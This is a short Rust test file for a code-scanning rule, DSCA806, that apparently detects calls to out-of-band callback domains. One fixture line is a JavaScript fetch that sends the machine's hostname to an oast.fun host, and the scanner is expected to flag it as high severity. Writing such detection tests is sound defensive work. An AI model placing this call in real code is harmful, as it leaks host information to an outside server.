use super::*;

#[test]
fn dsca806_collaborator_domain_in_network_code() {
    let fixture = library("fetch('https://c2x9.oast.fun/ping?h=' + require('os').hostname());\n");
    let findings = fixture.code_findings("DSCA806");
    assert_yaml_snapshot!(findings);
    assert_eq!(findings[0].severity, Severity::High);
}

#[test]
fn dsca806_ordinary_api_is_fine() {
    let fixture = library("fetch('https://api.example/repos').then(r => r.json());\n");
    assert!(fixture.code_findings("DSCA806").is_empty());
}
